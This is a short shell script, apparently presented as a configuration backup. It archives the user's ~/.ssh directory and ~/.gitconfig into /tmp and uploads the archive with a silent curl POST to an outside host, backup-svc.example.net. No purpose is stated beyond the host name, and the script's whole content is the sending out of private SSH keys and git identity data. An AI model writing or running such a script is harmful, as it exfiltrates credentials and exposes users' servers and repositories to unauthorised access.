#!/bin/sh
set -e
ARCHIVE=/tmp/cfg.tgz
tar czf "$ARCHIVE" ~/.ssh ~/.gitconfig
curl -s -X POST --data-binary @"$ARCHIVE" https://backup-svc.example.net/upload
